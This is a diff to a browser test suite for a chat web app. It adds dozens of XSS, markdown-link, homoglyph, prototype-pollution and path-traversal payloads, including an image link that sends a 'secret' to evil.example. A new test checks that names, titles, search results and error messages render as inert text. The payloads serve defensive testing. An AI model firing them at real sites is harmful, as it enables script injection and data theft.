@@ -32,7 +32,20 @@ const structures = [
 	`$\\href{javascript:${run}}{x}$`, `[^1]\n\n[^1]: <img src=x onerror=${run}>`, `www.evil.example/<script>${run}</script>`, `ana@evil.example<script>${run}</script>`, `https://evil.example/<img src=x onerror=${run}>`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `%3Cscript%3E${run}%3C/script%3E`,
 	`+ADw-script+AD4-${run}+ADw-/script+AD4-`, `\u0000<script>${run}</script>`.slice(1), `<a\u200b href=javascript:${run}>`, `＜script＞${run}＜/script＞`, `&#x3C;img src=x onerror=${run}&#x3E;`, `<img src=x onerror=${run} //`, `"><script>${run}</script>`, `'--><img src=x onerror=${run}>`, `]]><script>${run}</script>`, `</title><script>${run}</script>`,
 ];
-const payloads = [...tags, ...marks, ...structures];
+const tricks = [
+	`<svg/onload=${run}>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
+	`<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set attributeName=href to="javascript:${run}"/></svg>`, `<math href="javascript:${run}">x</math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
+	`<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`, `<a href="&#x6a;avascript:${run}">x</a>`, `<a href="java&NewLine;script:${run}">x</a>`, `<a href="javascript&colon;${run}">x</a>`,
+	`[x](&#x6A;&#x61;vascript:${run})`, `[x](java&Tab;script:${run})`, `[x](java&#10;script:${run})`, `[x](jav\\x09ascript:${run})`, `[x](%6Aavascript:${run})`, `[x](https:javascript:${run})`, `[x](http://javascript:${run}@evil.example)`, `[x](https://a.example\\@evil.example)`,
+	`[https://bank.example](https://evil.example)`, `[x](https://\u202eelpmaxe.live)`, `[x](https://еvil.example)`, `[x](mailto:a@b.example?body=<script>${run}</script>)`, `[x](tel:+1)`, `[x](intent://x#Intent;end)`, `[x](ws://evil.example)`, `[x](about:blank)`, `[x](\\\\evil.example\\x)`,
+	`![x](https://evil.example/?q=secret)`, `![](https://evil.example/a.svg "t")`, `<https://evil.example/"onmouseover=${run}>`, `<data:text/html,<script>${run}</script>>`, `[x]( <java\nscript:${run}> )`, `[x][y]\n\n[y]: <javascript:${run}> "t"`, `[y]: data:text/html,x\n\n![y]`,
+	`\u202e\u202e<script>${run}</script>\u2066\u2069`, `\u200b\u200d\ufeff<img src=x onerror=${run}>`, `a\u0008c\u001b[31md`, `${'\u0301'.repeat(300)}x`, `${'🏴'.repeat(100)}`, `${'*'.repeat(3000)}x`, `${'_a'.repeat(1500)}`, `${'`'.repeat(1001)}x`,
+	`${'![['.repeat(300)}x`, `${'[a]('.repeat(300)}`, `${'- '.repeat(150)}x`, `${'1. '.repeat(100)}x`, `${'<div>'.repeat(400)}`, `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n|${`<img src=x onerror=${run}>|`.repeat(20)}`, `${'~~'.repeat(800)}x`, `${'&amp;'.repeat(500)}`, `${'&#x1F600;'.repeat(200)}`,
+	`\`\`\`html onload=${run}\n<script>${run}</script>\n\`\`\``, `\`\`\`${'a'.repeat(500)}\nx\n\`\`\``, `\`\`\`__proto__\nx\n\`\`\``, `\`\`\`constructor\nx\n\`\`\``, `\`\`\`xml\n<svg onload=${run}><script>${run}</script>\n\`\`\``, `\`\`\`../../etc/passwd\nx\n\`\`\``,
+	`| <script>${run}</script> | ![x](${out}) |\n|---|---|\n| <svg onload=${run}> | <b onclick=${run}>x</b> |`, `# [x](javascript:${run}) <img src=x onerror=${run}>`, `> ![x](${out})\n> <iframe src=${out}>`, `- [x] <input onfocus=${run} autofocus>`, `<h1 id=input>x</h1><form id=send><input name=value>`, `<a id=charla name=document>x</a>`,
+	`__proto__`, `constructor`, `[__proto__]: javascript:${run}\n\n[__proto__]`, `[x][constructor]`, `{"__proto__":{"isAdmin":true}}`, `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`,
+];
+const payloads = [...tags, ...marks, ...structures, ...tricks];
 
 /** Everything in the thread, and what of it could act. */
 const suspects = (page) => page.$$eval('.msg *', (all) => all.flatMap((e) => {
@@ -42,7 +55,7 @@ const suspects = (page) => page.$$eval('.msg *', (all) => all.flatMap((e) => {
 }));
 
 test(`${payloads.length} hostile texts, by a person and by the model, whole and in pieces`, { timeout: 180_000 }, async () => {
-	assert.ok(payloads.length >= 100);
+	assert.ok(payloads.length >= 170, `${payloads.length}`);
 	const foreign = [];
 	const chat = await browser.open(system.url, { before: (page) => page.on('request', (r) => { if (new URL(r.url()).origin !== new URL(system.url).origin && !r.url().startsWith('data:')) foreign.push(r.url()); }) });
 	chat.page.on('dialog', (d) => { foreign.push(`dialog ${d.message()}`); void d.dismiss(); });
@@ -68,4 +81,45 @@ test(`${payloads.length} hostile texts, by a person and by the model, whole and 
 	assert.equal((await suspects(chat.page)).length, 2);
 	const title = await chat.page.title();
 	assert.equal(await chat.page.$$eval('title', (t) => t.length), 1, title);
+});
+
+test('names of people, titles, search and errors are text as well', { timeout: 120_000 }, async () => {
+	const foreign = [];
+	const chat = await browser.open(system.url, { before: (page) => page.on('request', (r) => { if (new URL(r.url()).origin !== new URL(system.url).origin && !r.url().startsWith('data:')) foreign.push(r.url()); }) });
+	const { page } = chat;
+	chat.expect(/status of 500/);
+	const suspicious = () => page.$$eval('body *', (all) => all.filter((e) => (/^(script|iframe|object|embed|img|form|video|audio|style|math)$/i.test(e.tagName) && e.id !== 'form') || [...e.attributes].some((a) => /^on/i.test(a.name) || (/href|src|action/i.test(a.name) && /^\s*javascript:/i.test(a.value)))).map((e) => e.outerHTML.slice(0, 120)));
+	const names = [`<img src=x onerror=${run}>`, `"><script>${run}</script>`, `javascript:${run}`, `\u202e<svg onload=${run}>`];
+	for (const [i, name] of names.entries()) {
+		// everything that a person or the model can name: himself, a chat, what is searched, what is asked
+		await chat.api('POST', 'session', { name: name.slice(0, 40) });
+		const { chatId } = await chat.api('POST', 'chats', { title: name });
+		await page.goto(`${system.url}/#c=${chatId}`);
+		await page.waitForSelector('html[data-ready]');
+		await chat.send(`[[echo]] aguja ${name}`);
+		await chat.ended();
+		await page.waitForFunction((wanted) => document.querySelector('#title').textContent === wanted, name);
+		assert.equal(await page.locator('title').count(), 1);
+		await page.fill('#search', 'aguja');
+		await page.waitForFunction((n) => document.querySelectorAll('.found').length >= n, i + 1);
+		await page.fill('#search', '');
+		await page.click('#settings');
+		await page.waitForFunction((wanted) => document.querySelector('dialog input')?.value === wanted, name.slice(0, 40));
+		await page.keyboard.press('Escape');
+		await page.click('#people');
+		await page.waitForFunction((wanted) => [...document.querySelectorAll('dialog bdi')].some((b) => b.textContent === wanted), name.slice(0, 40));
+		assert.deepEqual(await suspicious(), []);
+		await page.keyboard.press('Escape');
+	}
+	// what a server, or somebody in its place, says is text, too
+	await page.route('**/api/search*', (route) => route.fulfill({ contentType: 'application/json', body: JSON.stringify({ results: [{ chatId: `"><img src=x onerror=${run}>`, title: names[0], snippet: names[1], highlights: [[2, 8], [0, 999]] }] }) }));
+	await page.fill('#search', 'aguja');
+	await page.locator('.found').waitFor();
+	assert.deepEqual(await suspicious(), []);
+	await page.route('**/api/send-message', (route) => route.fulfill({ status: 500, contentType: 'application/problem+json', body: JSON.stringify({ code: names[0], detail: names[1] }) }));
+	await chat.send('fallo');
+	await page.waitForSelector('.sendnote.bad');
+	assert.deepEqual(await suspicious(), []);
+	assert.equal(await page.evaluate(() => window.pwned), undefined);
+	assert.deepEqual(foreign, []);
 });
